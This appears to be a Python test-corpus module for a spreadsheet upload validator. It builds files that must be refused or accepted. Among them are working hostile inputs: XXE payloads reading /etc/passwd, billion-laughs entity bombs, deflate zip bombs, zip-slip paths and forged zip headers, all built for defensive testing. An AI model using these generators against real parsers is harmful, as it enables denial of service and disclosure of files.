"""The corpus: hostile files, and sloppy ones that people send and that must be read.

Every file is made when it is asked for, always the same, none is stored. What the reading process
runs on them is in `work`.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

from domain.intake.grid import column_letters

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
STRICT = "http://purl.oclc.org/ooxml/spreadsheetml/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT_OFFICE = "http://purl.oclc.org/ooxml/officeDocument/relationships"
MS = "http://schemas.microsoft.com/office/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
SHEET = "xl/worksheets/sheet1.xml"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


@dataclass(frozen=True)
class Case:
    """One file. code : of the refusal, "" if it must be read.

    at : place the refusal names, "sheet!cell".  values : address → value on the first sheet.
    facts : other things the reading must report.
    """

    name: str
    file_name: str
    build: Callable[[], bytes]
    code: str = ""
    at: str = ""
    values: dict[str, object] = field(default_factory=dict)
    facts: dict[str, object] = field(default_factory=dict)

    @property
    def verdict(self) -> str:
        """Return "refuse" or "read"."""
        return "refuse" if self.code else "read"


CASES: list[Case] = []


def refuse(name: str, code: str, build: Callable[[], bytes] | bytes, file: str = "", at: str = ""):
    """Add a file that must be refused."""
    make = build if callable(build) else lambda: build
    CASES.append(Case(name, file or f"{name}.xlsx", make, code, at))


def accept(name: str, build: Callable[[], bytes] | bytes, values=None, file: str = "", **facts):
    """Add a file that must be read."""
    make = build if callable(build) else lambda: build
    CASES.append(Case(name, file or f"{name}.xlsx", make, "", "", values or {}, facts))


# ---------------------------------------------------------------- how a workbook is put together


def relations(*arrows: tuple[str, str, str] | tuple[str, str, str, str]) -> str:
    """Return a .rels part: (id, type, target[, mode])."""
    body = "".join(
        f'<Relationship Id="{a[0]}" Type="{a[1]}" Target="{a[2]}"'
        + (f' TargetMode="{a[3]}"' if len(a) > 3 else "")
        + "/>"
        for a in arrows
    )
    return f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{body}</Relationships>'


STYLES = (
    f'{HEAD}<styleSheet xmlns="{MAIN}"><numFmts count="4">'
    '<numFmt numFmtId="164" formatCode="[$-411]ggge&quot;年&quot;m&quot;月&quot;d&quot;日&quot;;@"/>'
    '<numFmt numFmtId="165" formatCode="[h]:mm"/>'
    '<numFmt numFmtId="166" formatCode="yyyy&quot;年&quot;m&quot;月&quot;"/>'
    '<numFmt numFmtId="167" formatCode="0&quot;団体&quot;"/></numFmts>'
    '<fonts count="2"><font><sz val="11"/><color theme="1"/></font>'
    '<font><u/><color rgb="FFFF0000"/></font></fonts>'
    '<fills count="3"><fill><patternFill patternType="none"/></fill>'
    '<fill><patternFill patternType="gray125"/></fill>'
    '<fill><patternFill patternType="solid"><fgColor rgb="FFFFFF00"/></patternFill></fill></fills>'
    '<cellXfs count="9">'
    + "".join(
        f'<xf numFmtId="{number}" fontId="{font}" fillId="{fill}"/>'
        for number, font, fill in (
            (0, 0, 0), (14, 0, 0), (57, 0, 0), (164, 0, 0), (165, 0, 0), (20, 0, 0), (166, 0, 0),
            (167, 0, 0), (0, 1, 2),
        )
    )
    + "</cellXfs></styleSheet>"
)  # fmt: skip


def cell(address: str, value: object, kind: str = "", style: int = 0) -> str:
    """Return one cell with a number, or with a text in place."""
    shown = f' s="{style}"' if style else ""
    if isinstance(value, str) and not kind:
        return f'<c r="{address}"{shown} t="inlineStr"><is><t>{value}</t></is></c>'
    mark = f' t="{kind}"' if kind else ""
    return f'<c r="{address}"{shown}{mark}><v>{value}</v></c>'


TABLE = [
    ["団体コード", "都道府県", "設置状況", "参加市町村数"],
    ["01", "北海道", "設置済み", 12],
    ["13", "東京都", "未設置", 0],
]
TABLE_VALUES = {"A1": "団体コード", "B2": "北海道", "A2": "01", "D2": 12, "D3": 0}


def table(rows: list[list[object]] = TABLE, first: int = 1) -> str:
    """Return <sheetData> of a table."""
    body = "".join(
        f'<row r="{r}">'
        + "".join(cell(f"{column_letters(c)}{r}", v) for c, v in enumerate(row) if v is not None)
        + "</row>"
        for r, row in enumerate(rows, start=first)
    )
    return f"<sheetData>{body}</sheetData>"


def data(*rows: str) -> str:
    """Return <sheetData> of one string per row, numbered from 1."""
    return (
        "<sheetData>"
        + "".join(f'<row r="{r}">{row}</row>' for r, row in enumerate(rows, start=1))
        + "</sheetData>"
    )


def worksheet(body: str, space: str = MAIN, head: str = HEAD) -> str:
    """Return a whole worksheet part."""
    return f'{head}<worksheet xmlns="{space}" xmlns:r="{OFFICE}">{body}</worksheet>'


def parts_of(
    sheet: str | bytes | None = None,
    strings: str | bytes | None = None,
    styles: str | None = STYLES,
    space: str = MAIN,
    office: str = OFFICE,
    inside: str = "",
    state: str = "",
    sheet_relations: str = "",
    workbook_relations: tuple = (),
    types: str = "",
    more: dict[str, str | bytes] | None = None,
    without: tuple[str, ...] = (),
) -> dict[str, bytes]:
    """Return the parts of a workbook of one sheet named 表."""
    if sheet is None:
        sheet = table()
    if isinstance(sheet, str) and not sheet.startswith("<?xml"):
        sheet = worksheet(sheet, space)
    if isinstance(strings, str) and not strings.startswith("<?xml"):
        strings = f'{HEAD}<sst xmlns="{space}">{strings}</sst>'
    types += "".join(
        f'<Override PartName="/xl/{part}.xml" ContentType="{SHEET_TYPE}.{part}+xml"/>'
        for part, there in (("styles", styles), ("sharedStrings", strings is not None))
        if there
    )
    arrows = [("rId1", f"{office}/worksheet", "worksheets/sheet1.xml")]
    if styles:
        arrows.append(("rId2", f"{office}/styles", "styles.xml"))
    if strings is not None:
        arrows.append(("rId3", f"{office}/sharedStrings", "sharedStrings.xml"))
    parts: dict[str, str | bytes | None] = {
        "[Content_Types].xml": f'{HEAD}<Types xmlns="{PACKAGE}/content-types">'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{SHEET_TYPE}.sheet.main+xml"/>'
        f'<Override PartName="/{SHEET}" ContentType="{SHEET_TYPE}.worksheet+xml"/>{types}</Types>',
        "_rels/.rels": relations(("rId1", f"{office}/officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": f'{HEAD}<workbook xmlns="{space}" xmlns:r="{office}">{inside}<sheets>'
        f'<sheet name="表" sheetId="1"{state} r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relations(*arrows, *workbook_relations),
        SHEET: sheet,
        "xl/styles.xml": styles,
        "xl/sharedStrings.xml": strings,
        "xl/worksheets/_rels/sheet1.xml.rels": sheet_relations or None,
        **(more or {}),
    }
    return {
        name: body.encode() if isinstance(body, str) else body
        for name, body in parts.items()
        if body is not None and name not in without
    }


def pack(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return the parts as a zip, with the date of all files fixed."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, body in parts.items():
            info = zipfile.ZipInfo(name, (2025, 4, 1, 0, 0, 0))
            info.compress_type = method
            archive.writestr(info, body)
    return buffer.getvalue()


def book(sheet: str | bytes | None = None, strings: str | bytes | None = None, **rest) -> bytes:
    """Return a workbook of one sheet named 表."""
    return pack(parts_of(sheet, strings, **rest))


def later(sheet: str | bytes | None = None, strings: str | bytes | None = None, **rest):
    """Return a function that makes the workbook."""
    return lambda: book(sheet, strings, **rest)


def patched(name: str, where: str, offset: int, form: str, value: int, content: bytes = b""):
    """Return a workbook with one field of a zip header overwritten."""
    raw = bytearray(content or book())
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        at = archive.getinfo(name).header_offset
        if where == "central":
            at = archive.start_dir
            for info in archive.infolist():
                if info.filename == name:
                    break
                at += 46 + len(info.filename.encode()) + len(info.extra) + len(info.comment)
    struct.pack_into(form, raw, at + offset, value)
    return bytes(raw)


def renamed(old: str, new: str, content: bytes = b"") -> bytes:
    """Return a workbook with a part renamed to a name of the same length, in both places."""
    assert len(old.encode()) == len(new.encode())
    return (content or book()).replace(old.encode(), new.encode())


def raw_part(content: bytes, packed: bytes, size: int, crc: int, name: str) -> bytes:
    """Return a zip with one more deflated part, whose size and checksum are as told."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        start, count = archive.start_dir, len(archive.infolist())
    directory = content[start : len(content) - 22]
    told = struct.pack("<5H3I2H", 20, 0, 8, 0, 0x5A81, crc, len(packed), size, len(name), 0)
    local = b"PK\x03\x04" + told + name.encode() + packed
    entry = (
        b"PK\x01\x02" + struct.pack("<H", 20) + told
        + struct.pack("<3H2I", 0, 0, 0, 0, start) + name.encode()
    )  # fmt: skip
    end = struct.pack(
        "<4s4H2IH", b"PK\x05\x06", 0, 0, count + 1, count + 1,
        len(directory) + len(entry), start + len(local), 0,
    )  # fmt: skip
    return content[:start] + local + directory + entry + end


def deflate(head: bytes, filler: bytes, megabytes: int, tail: bytes) -> tuple[bytes, int, int]:
    """Return (packed, size, checksum) of so much of one thing, packed once and repeated."""
    block = (filler * ((1 << 20) // len(filler) + 1))[: 1 << 20]
    machine = zlib.compressobj(6, zlib.DEFLATED, -15)
    packed = machine.compress(head) + machine.flush(zlib.Z_FULL_FLUSH)
    # After a full flush nothing refers back, so the packed block may stand any number of times.
    packed += (machine.compress(block) + machine.flush(zlib.Z_FULL_FLUSH)) * megabytes
    packed += machine.compress(tail) + machine.flush()
    crc = zlib.crc32(head)
    for _ in range(megabytes):
        crc = zlib.crc32(block, crc)
    return packed, len(head) + (megabytes << 20) + len(tail), zlib.crc32(tail, crc)


def blown_up(megabytes: int, claimed: int = 0) -> bytes:
    """Return a workbook whose sheet is mostly blanks; claimed : the size it says it has."""
    start = worksheet(table()).encode().split(b"</worksheet>")[0]
    packed, size, crc = deflate(start, b" ", megabytes, b"</worksheet>")
    return raw_part(pack(parts_of(without=(SHEET,))), packed, claimed or size, crc, SHEET)


def in_streams() -> bytes:
    """Return a workbook as a program writes it that cannot go back: sizes behind each part."""

    class OneWay(io.RawIOBase):
        def __init__(self) -> None:
            self.body = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, some) -> int:
            self.body += some
            return len(some)

    target = OneWay()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts_of().items():
            archive.writestr(name, body)
    return bytes(target.body)


def with_zip64(lie: int = 0) -> bytes:
    """Return a workbook with the 64-bit directory; lie : added to its number of entries."""
    content = book()
    *_, count, size, offset, _ = struct.unpack("<4H2IH", content[-18:])
    record = struct.pack(
        "<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count + lie, count + lie, size, offset
    )
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, len(content) - 22, 1)
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, size, 0xFFFFFFFF, 0)
    return content[:-22] + record + locator + end


def plain_zip(**files: bytes) -> bytes:
    """Return a zip of these files; "__" in a name stands for "/"."""
    return pack({name.replace("__", "/"): body for name, body in files.items()})


OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)


def ole(*streams: str) -> bytes:
    """Return what looks like a container of old Office with these streams."""
    return OLE + b"".join(name.encode("utf-16-le") + bytes(64) for name in streams) + bytes(512)


LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10 if i else "&a;" * 10}">' for i in range(9)
    )
    + "]>"
)
XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
NO_HEAD = HEAD.split("\n")[0]


def declared(doctype: str, body: str) -> str:
    """Return XML with a DOCTYPE."""
    return f"{NO_HEAD}{doctype}{body}"


def sheet_with(doctype: str, value: str) -> str:
    """Return a worksheet with a DOCTYPE and one text."""
    return declared(doctype, worksheet(data(cell("A1", value)), head=""))


def noisy_elements(count: int) -> bytes:
    """Return an XML part of so many elements that does not pack too well."""
    chance = random.Random(1)
    block = "".join(chance.choice(("<a/>", "<b/>", "<d/>", "<e/>")) for _ in range(20_000))
    return f"<x>{block * (count // 20_000)}</x>".encode()


def png(width: int, height: int) -> bytes:
    """Return the beginning of a picture that says it is this large."""
    head = b"IHDR" + struct.pack(">2I5B", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + head + struct.pack(">I", zlib.crc32(head))


def with_drawing(picture: bytes, name: str = "image1.png", inner: str = "<xdr:pic/>") -> bytes:
    """Return a workbook with a drawing over its cells."""
    drawing = (
        f'{HEAD}<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/'
        f'spreadsheetDrawing"><xdr:twoCellAnchor>{inner}</xdr:twoCellAnchor></xdr:wsDr>'
    )
    return book(
        sheet_relations=relations(("rId1", f"{OFFICE}/drawing", "../drawings/drawing1.xml")),
        more={
            "xl/drawings/drawing1.xml": drawing,
            "xl/drawings/_rels/drawing1.xml.rels": relations(
                ("rId1", f"{OFFICE}/image", f"../media/{name}")
            ),
            f"xl/media/{name}": picture,
        },
    )


def arrow(kind: str, target: str, mode: str = "", office: str = OFFICE) -> str:
    """Return the relations of the sheet: one arrow."""
    return relations(("rId1", f"{office}/{kind}", target, mode or "Internal"))


def retyped(kind: str, **rest) -> bytes:
    """Return a workbook whose main part has another content type."""
    parts = parts_of(**rest)
    types = parts["[Content_Types].xml"].decode()
    parts["[Content_Types].xml"] = types.replace(f"{SHEET_TYPE}.sheet.main+xml", kind).encode()
    return pack(parts)


def rerouted(**arrows: str) -> bytes:
    """Return a workbook whose arrow to the sheet has another type, target or mode."""
    told = {"kind": f"{OFFICE}/worksheet", "target": "worksheets/sheet1.xml", "mode": "Internal"}
    told |= arrows
    parts = parts_of()
    parts["xl/_rels/workbook.xml.rels"] = relations(
        ("rId1", told["kind"], told["target"], told["mode"]),
        ("rId2", f"{OFFICE}/styles", "styles.xml"),
    ).encode()
    return pack(parts)


def many_sheets(count: int, same_part: bool = False, same_name: bool = False) -> bytes:
    """Return a workbook of many sheets."""
    parts = parts_of()
    arrows = [("rId0", f"{OFFICE}/styles", "styles.xml")]
    names = ""
    for number in range(1, count + 1):
        target = "sheet1" if same_part else f"sheet{number}"
        parts[f"xl/worksheets/{target}.xml"] = parts[SHEET]
        arrows.append((f"rId{number}", f"{OFFICE}/worksheet", f"worksheets/{target}.xml"))
        title = "表" if same_name else f"表{number}"
        names += f'<sheet name="{title}" sheetId="{number}" r:id="rId{number}"/>'
    parts["xl/workbook.xml"] = (
        f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>{names}</sheets></workbook>'
    ).encode()
    parts["xl/_rels/workbook.xml.rels"] = relations(*arrows).encode()
    return pack(parts)


def filled(rows: int, columns: int, value: str = "7") -> str:
    """Return <sheetData> full of one number."""
    letters = [column_letters(column) for column in range(columns)]
    return (
        "<sheetData>"
        + "".join(
            f'<row r="{r}">'
            + "".join(f'<c r="{a}{r}"><v>{value}</v></c>' for a in letters)
            + "</row>"
            for r in range(1, rows + 1)
        )
        + "</sheetData>"
    )


def coloured(last: int, first: int = 4, columns: str = "B") -> str:
    """Return <sheetData> of the table with rows below it that have nothing but a colour."""
    return table().removesuffix("</sheetData>") + (
        "".join(
            f'<row r="{r}" spans="1:15">' + "".join(f'<c r="{c}{r}" s="8"/>' for c in columns) + "</row>"
            for r in range(first, last + 1)
        )
        + "</sheetData>"
    )  # fmt: skip


# fmt: off
# ---------------------------------------------------------------- the file as a whole

refuse("empty_xlsx", "E_EMPTY", b"")
refuse("empty_csv", "E_EMPTY", b"", "x.csv")
refuse("too_large", "E_TOO_LARGE", lambda: b"PK\x03\x04" + bytes(10 << 20))
refuse("no_extension", "E_NO_EXTENSION", book, "報告")
refuse("no_extension_csv", "E_NO_EXTENSION", "団体コード,都道府県\n01,北海道\n".encode(), "報告")
refuse("only_extension", "E_NO_EXTENSION", book, ".xlsx")
refuse("double_extension", "E_EXTENSION", book, "報告.xlsx.exe")
refuse("docx_by_name", "E_EXTENSION", lambda: plain_zip(word__document=b"<x/>"), "報告.docx")
refuse("xlsm_by_name", "E_MACRO", book, "報告.xlsm")
ODS = {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}
refuse("ods", "E_ODS", lambda: pack(ODS, zipfile.ZIP_STORED), "報告.ods")
refuse("ods_renamed", "E_ODS", lambda: pack(ODS, zipfile.ZIP_STORED))
refuse("ods_late_mimetype", "E_ODS", lambda: pack(dict(reversed(ODS.items()))))
refuse(
    "ods_bomb", "E_ODS",
    lambda: pack(ODS | {"content.xml": b'<r n="1048576"/>' * 1000}, zipfile.ZIP_STORED), "b.ods",
)  # fmt: skip
refuse("old_xls", "E_OLD_XLS", ole("Workbook"), "報告.xls")
refuse("old_xls_renamed", "E_OLD_XLS", ole("Workbook"))
refuse("older_xls", "E_OLD_XLS", b"\x09\x08\x10\0\0\x05\x05\0" + bytes(200), "報告.xls")
refuse("password", "E_ENCRYPTED", ole("EncryptionInfo", "EncryptedPackage"))
refuse("password_xls_name", "E_ENCRYPTED", ole("EncryptedPackage"), "報告.xls")
refuse("doc_renamed", "E_WRONG_KIND", ole("WordDocument"))
refuse("mail_renamed", "E_WRONG_KIND", ole("__substg1.0_0037001F"))
HTML = "<html><meta charset=utf-8><table><tr><td>北海道</td></tr></table></html>".encode()
refuse("html_xls", "E_WRONG_KIND", HTML, "報告.xls")
refuse("html_xlsx", "E_WRONG_KIND", b"\xef\xbb\xbf\n<!DOCTYPE html>" + HTML)
refuse("html_csv", "E_WRONG_KIND", HTML, "報告.csv")
refuse("mhtml", "E_WRONG_KIND", b"MIME-Version: 1.0\nContent-Type: multipart/related\n", "報告.xls")
refuse("xml_2003", "E_WRONG_KIND",
    b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>')
for _name, _head in (
    ("pdf", b"%PDF-1.7\n"), ("png", png(10, 10)), ("jpeg", b"\xff\xd8\xff\xe0"),
    ("gif", b"GIF89a"), ("exe", b"MZ\x90\0\3\0"), ("elf", b"\x7fELF\2\1"), ("gzip", b"\x1f\x8b\x08\0"),
    ("7z", b"7z\xbc\xaf\x27\x1c"), ("rar", b"Rar!\x1a\7"), ("lzh", b"!\x20-lh5-"),
    ("rtf", b"{\\rtf1\\ansi"), ("sqlite", b"SQLite format 3\0"), ("json", b'{"a": 1}'),
    ("shortcut", b"L\0\0\0\x01\x14\x02\0"), ("heic", b"\0\0\0\x18ftypheic"),
    ("noise", random.Random(7).randbytes(3000)),
):  # fmt: skip
    refuse(f"{_name}_renamed", "E_WRONG_KIND", _head + b"\x01\x02 " * 40)
refuse("csv_renamed", "E_WRONG_KIND", "団体コード,都道府県\n01,北海道\n".encode("cp932"))
refuse("xlsx_as_csv", "E_WRONG_KIND", book, "報告.csv")
refuse("xlsx_as_xls", "E_WRONG_KIND", book, "報告.xls")
refuse("docx_renamed", "E_WRONG_KIND", lambda: plain_zip(word__document=b"<x/>"))
refuse("pptx_renamed", "E_WRONG_KIND", lambda: plain_zip(ppt__presentation=b"<x/>"))
refuse("xlsb_renamed", "E_WRONG_KIND", lambda: pack({"xl/workbook.bin": b"\x83\1"}))
refuse("jar_renamed", "E_WRONG_KIND", lambda: pack({"META-INF/MANIFEST.MF": b"Main-Class: a"}))
refuse("plain_zip", "E_WRONG_KIND", lambda: pack({"memo.txt": b"x"}))
refuse("zip_with_xlsx", "E_WRONG_KIND", lambda: pack({"報告.xlsx": book()}))
refuse("template", "E_WRONG_KIND", lambda: retyped(f"{SHEET_TYPE}.template.main+xml"))
refuse(
    "docx_in_full", "E_WRONG_KIND",
    lambda: retyped(f"{SHEET_TYPE.replace('spreadsheetml', 'wordprocessingml')}.document.main+xml"),
)  # fmt: skip
accept("plain", book, TABLE_VALUES)
accept("upper_case_name", book, TABLE_VALUES, "報告.XLSX")
accept("name_with_path", book, TABLE_VALUES, "../../etc/<b>報告.xlsx")
accept("name_with_windows_path", book, TABLE_VALUES, "C:\\Users\\a\\報告.xlsx ")

# ---------------------------------------------------------------- the container

refuse("prepended", "E_WRONG_KIND", lambda: b"\x01\x02" * 50 + book())
refuse("prepended_text", "E_WRONG_KIND", lambda: b"hello\n" + book())
refuse("two_zips", "E_ZIP_STRUCTURE", lambda: pack({"a.txt": b"x"}) + book())
refuse("pdf_and_zip", "E_WRONG_KIND", lambda: b"%PDF-1.4\n" + book())
refuse("appended", "E_ZIP_STRUCTURE", lambda: book() + b"<script>alert(1)</script>")
refuse("appended_zip_wins", "E_ZIP_STRUCTURE", lambda: book() + pack(parts_of(table([["x"]]))))
refuse("comment", "E_CORRUPT_ZIP", lambda: book()[:-2] + b"\5\0")
refuse("truncated_half", "E_CORRUPT_ZIP", lambda: book()[: len(book()) // 2])
refuse("truncated_end", "E_CORRUPT_ZIP", lambda: book()[:-3])
refuse("four_bytes", "E_CORRUPT_ZIP", b"PK\x03\x04")
refuse("only_end", "E_WRONG_KIND", b"PK\x05\x06" + bytes(18))
refuse("wrong_checksum", "E_CORRUPT_ZIP", lambda: patched(SHEET, "local", 14, "<I", 1,
    patched(SHEET, "central", 16, "<I", 1)))
refuse("packed_garbage", "E_CORRUPT_ZIP", lambda: patched(SHEET, "local", 30 + len(SHEET), "<I",
    0xFFFFFFFF))
refuse("smaller_than_told", "E_CORRUPT_ZIP", lambda: patched(SHEET, "local", 22, "<I", 90_000,
    patched(SHEET, "central", 24, "<I", 90_000)))
refuse("larger_than_told", "E_CORRUPT_ZIP", lambda: patched(SHEET, "local", 22, "<I", 90,
    patched(SHEET, "central", 24, "<I", 90)))
refuse("headers_disagree_size", "E_CORRUPT_ZIP", lambda: patched(SHEET, "central", 24, "<I", 90))
refuse("headers_disagree_name", "E_ZIP_STRUCTURE", lambda: patched(SHEET, "local", 30, "<B", 0x79))
refuse("headers_disagree_method", "E_ZIP_STRUCTURE", lambda: patched(SHEET, "local", 8, "<H", 0))
refuse("encrypted_part", "E_ENCRYPTED", lambda: patched(SHEET, "central", 8, "<H", 1))
refuse("strong_encryption", "E_ENCRYPTED", lambda: patched(SHEET, "central", 8, "<H", 0x41))
refuse("bzip2", "E_ZIP_STRUCTURE", lambda: pack(parts_of(), zipfile.ZIP_BZIP2))
refuse("lzma", "E_ZIP_STRUCTURE", lambda: pack(parts_of(), zipfile.ZIP_LZMA))
refuse("zip_slip", "E_ZIP_STRUCTURE", later(more={"../../evil.xml": "<x/>"}))
refuse("backslash", "E_ZIP_STRUCTURE", lambda: renamed("xl/styles.xml", "xl\\styles.xml"))
refuse("drive_letter", "E_ZIP_STRUCTURE", later(more={"C:evil.xml": "<x/>"}))
refuse("absolute_name", "E_ZIP_STRUCTURE", later(more={"/evil.xml": "<x/>"}))
refuse("control_in_name", "E_ZIP_STRUCTURE", later(more={"xl/a\x07.xml": "<x/>"}))
refuse("duplicate_part", "E_ZIP_STRUCTURE", lambda: renamed("xl/worksheets/sheet2.xml", SHEET,
    book(more={"xl/worksheets/sheet2.xml": worksheet(table())})))
refuse("duplicate_by_case", "E_ZIP_STRUCTURE", later(more={"XL/Worksheets/Sheet1.xml": "<x/>"}))
refuse("folder_with_content", "E_ZIP_STRUCTURE", later(more={"xl/evil/": "<x/>"}))
refuse("shared_bytes", "E_ZIP_STRUCTURE", lambda: patched("_rels/.rels", "local", 18, "<I", 500,
    patched("_rels/.rels", "central", 20, "<I", 500)))
refuse("offset_outside", "E_CORRUPT_ZIP", lambda: patched(SHEET, "central", 42, "<I", 0x7FFFFFFF))
refuse("count_too_small", "E_ZIP_STRUCTURE", lambda: book()[:-14] + b"\1\0\1\0" + book()[-10:])
refuse("count_too_large", "E_CORRUPT_ZIP", lambda: book()[:-14] + b"\x40\0\x40\0" + book()[-10:])
refuse("many_disks", "E_ZIP_STRUCTURE", lambda: book()[:-18] + b"\1\0\1\0" + book()[-14:])
refuse("zip64_lie", "E_TOO_MANY_PARTS", lambda: with_zip64(10**12))
refuse("zip64_small_lie", "E_CORRUPT_ZIP", lambda: with_zip64(2))
refuse("zip64_no_record", "E_ZIP_STRUCTURE", lambda: book()[:-22] + struct.pack("<4sIQI",
    b"PK\x06\x07", 0, 99, 1) + book()[-22:])
refuse("too_many_parts", "E_TOO_MANY_PARTS", lambda: pack({f"a{i}": b"" for i in range(2_100)}))
refuse("bomb_blanks", "E_ZIP_BOMB", lambda: blown_up(400))
refuse("bomb_lying", "E_CORRUPT_ZIP", lambda: blown_up(400, claimed=5000))
refuse("bomb_ratio", "E_ZIP_BOMB", lambda: blown_up(30))
refuse("bomb_in_strings", "E_ZIP_BOMB", lambda: raw_part(
    book(), *deflate(b"<sst><si><t>", b"a", 200, b"</t></si></sst>"), "xl/big.xml"))
refuse("nested_zips", "E_EMBEDDED_OBJECT", later(more={"xl/media/image1.png":
    plain_zip(a=plain_zip(b=plain_zip(c=bytes(100_000))))}))


def _several_large() -> bytes:
    """Three parts of 60 MB each that pack no better than a table does."""
    chance = random.Random(3)
    block = b"".join(b" " * 180 + bytes([chance.randrange(65, 90)]) for _ in range(5800))
    packed, size, crc = deflate(b"<x>", block, 57, b"</x>")
    content = book()
    for number in range(3):
        content = raw_part(content, packed, size, crc, f"xl/a{number}.xml")
    return content


refuse("bomb_in_total", "E_ZIP_BOMB", _several_large)
accept("stored", lambda: pack(parts_of(), zipfile.ZIP_STORED), TABLE_VALUES)
accept("in_streams", in_streams, TABLE_VALUES)
accept("zip64", with_zip64, TABLE_VALUES)
accept("with_folders", lambda: pack({"xl/": b"", "xl/worksheets/": b""} | parts_of()), TABLE_VALUES)
accept("parts_reversed", lambda: pack(dict(reversed(parts_of().items()))), TABLE_VALUES)
refuse("stray_after_stream", "E_ZIP_STRUCTURE", lambda: patched(SHEET, "central", 8, "<H", 8,
    patched(SHEET, "local", 6, "<H", 8, _with_gap())))


def _with_gap() -> bytes:
    """Return a workbook with 40 bytes between a part and the next."""
    parts = parts_of()
    content = pack(parts)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        after = next(
            info.header_offset for info in archive.infolist() if info.filename == "xl/styles.xml"
        )
        start = archive.start_dir
    raw = bytearray(content[:after] + bytes(40) + content[after:])
    struct.pack_into("<I", raw, len(raw) - 6, start + 40)
    raw = bytes(raw)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for info in archive.infolist():
            if info.header_offset >= after:
                at = raw.rindex(b"PK\x01\x02", 0, raw.rindex(info.filename.encode()))
                raw = raw[: at + 42] + struct.pack("<I", info.header_offset + 40) + raw[at + 46 :]
    return raw


refuse("hidden_between", "E_ZIP_STRUCTURE", _with_gap)

# ---------------------------------------------------------------- XML

refuse("laughs_in_strings", "E_XML_DTD", later(data(cell("A1", 0, "s")), declared(LAUGHS,
    f'<sst xmlns="{MAIN}"><si><t>&a8;</t></si></sst>')))
refuse("laughs_in_sheet", "E_XML_DTD", later(sheet_with(LAUGHS, "&a8;")))
refuse("quadratic", "E_XML_DTD", lambda: book(sheet_with(f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>',
    "&a;" * 20_000)))
refuse("xxe_in_sheet", "E_XML_DTD", later(sheet_with(XXE, "&e;")))
refuse("xxe_in_types", "E_XML_DTD", lambda: pack(parts_of() | {"[Content_Types].xml": declared(XXE,
    "<Types/>").encode()}))
refuse("xxe_in_relations", "E_XML_DTD", lambda: pack(parts_of() | {"_rels/.rels": declared(XXE,
    "<Relationships/>").encode()}))
refuse("outside_dtd", "E_XML_DTD", lambda: pack(parts_of() | {"xl/workbook.xml":
    declared('<!DOCTYPE workbook SYSTEM "http://127.0.0.1:9/x.dtd">', "<workbook/>").encode()}))
refuse("parameter_entity", "E_XML_DTD",
    later(sheet_with('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p">%p;]>', "a")))
refuse("dtd_in_utf16", "E_XML_DTD", later(sheet_with(XXE, "&e;").replace("UTF-8",
    "UTF-16").encode("utf-16")))
refuse("dtd_in_properties", "E_XML_DTD", later(more={"docProps/app.xml": declared(XXE,
    "<a>&e;</a>")}))
refuse("dtd_without_extension", "E_XML_DTD", later(more={"customXml/item1.bin": declared(XXE,
    "<a/>")}))
refuse("dtd_in_vml", "E_XML_DTD", later(more={"xl/drawings/vmlDrawing1.vml": declared(XXE,
    "<a><br></a>")}))
refuse("deep_in_sheet", "E_XML_DEPTH", lambda: book("<sheetData/>" + "".join(f"<e{i}>" for i in
    range(3000)) + "".join(f"</e{i}>" for i in reversed(range(3000)))))
refuse("deep_in_cells", "E_XML_DEPTH", lambda: book("<sheetData><row><c>" + "<e>" * 50_000 + "</e>" *
    50_000 + "</c></row></sheetData>"))
refuse("deep_elsewhere", "E_XML_DEPTH", lambda: book(more={"docProps/app.xml": "<e>" * 9000 + "</e>" *
    9000}))
refuse("deep_in_strings", "E_XML_DEPTH", lambda: book(data(cell("A1", 0, "s")), "<si>" + "<e>" * 9000 +
    "</e>" * 9000 + "</si>"))


def _noise(length: int) -> str:
    block = random.Random(5).randbytes(25_000).hex()
    return (block * (length // len(block) + 1))[:length]


refuse("million_attributes", "E_CORRUPT_XML", lambda: book("<sheetData><row><c " +
    " ".join(f'a{i}="{i % 7}"' for i in range(1_000_000)) + "/></row></sheetData>"))
refuse("huge_attribute", "E_CORRUPT_XML", lambda: book(f'<sheetData a="{_noise(6_000_000)}"/>'))
refuse("huge_comment", "E_CORRUPT_XML", lambda: book(f"<!--{_noise(6_000_000)}-->" + table()))
